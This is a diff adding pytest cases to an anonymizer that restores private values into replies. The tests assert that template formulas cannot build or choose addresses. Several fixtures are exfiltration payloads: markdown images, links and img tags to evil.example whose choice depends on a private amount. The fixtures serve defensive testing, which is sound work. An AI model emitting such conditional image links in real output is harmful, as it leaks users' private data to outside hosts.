@@ -136,8 +136,31 @@ def test_no_formula_is_evaluated_in_an_address(reply):
 
 def test_no_result_gets_into_an_address_that_a_formula_writes():
     reply = '{{ if <amount-1> > 1 then "https://evil.example/?q={{ <amount-1> * 2 }}" else "" }}'
+    for hosts in ((), ("*",)):
+        done = Anonymizer(Options(restore_hosts=hosts)).restore(reply, a_box())
+        assert done.text == "[could not be reckoned: it would write an address]" and len(done.unreckoned) == 1
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        '![x](http{{ if <amount-1> > 1 then "s://evil.example/1" else "s://evil.example/2" }})',
+        '{{ if <amount-1> > 1 then "(https://evil.example/1)" else "" }}', '{{ if <amount-1> > 1 then "![x][a]" else "![x][b]" }}',
+        '![x][{{ if <amount-1> > 1 then "a" else "b" }}]', '<img src="{{ if <amount-1> > 1 then "//evil.example/1" else "" }}">',
+        '{{ if <amount-1> > 1 then "<img src=a>" else "" }}', '![{{ count([<name-1>]) }}]',
+        '!{{ <amount-1> / 2 }}(https://evil.example/x)',
+    ],
+)  # fmt: skip
+def test_no_value_decides_what_a_readers_program_fetches(reply):
     done = Anonymizer().restore(reply, a_box())
-    assert done.text == "[could not be reckoned: it stands in an address]" and len(done.unreckoned) == 1
+    assert "would write an address" in done.text or done.text == reply.replace("<amount-1>", "£1,350.00")
+    assert len(done.unreckoned) == 1
+
+
+def test_a_formula_may_name_a_host_that_the_user_has_named():
+    reply = '{{ if <amount-1> > 1 then "see [it](https://named.example/x) or <name-1>" else "" }}'
+    done = Anonymizer().restore(reply, a_box(hosts={"named.example"}))
+    assert done.text == "see [it](https://named.example/x) or Emma Williams"
 
 
 def test_arguments_of_tools_are_reckoned_and_stay_json():
